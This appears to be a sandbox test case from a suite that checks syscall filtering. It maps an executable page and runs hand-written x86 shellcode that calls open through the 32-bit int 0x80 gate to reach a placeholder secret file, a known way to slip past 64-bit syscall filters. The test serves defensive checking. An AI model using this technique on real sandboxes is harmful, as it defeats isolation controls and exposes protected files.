# expect: RIGHT or FORBIDDEN or CRASHED
"""Calls the kernel by the gate of 32-bit programs, where numbers mean other calls: 5 is open there."""

import mmap


def attack():
    if MACHINE != "x86_64":
        return
    page = attempt(mmap.mmap, -1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)
    if page is None:
        return
    page[200 : 200 + len(b"__SECRET__") + 1] = b"__SECRET__\0"
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    # push rbx; mov eax, 5; mov ebx, path; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
    code = b"\x53\xb8\5\0\0\0\xbb" + (start + 200).to_bytes(4, "little") + b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
    page[: len(code)] = code
    opened = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
    got(f"the gate answers {opened}")
    read(opened)
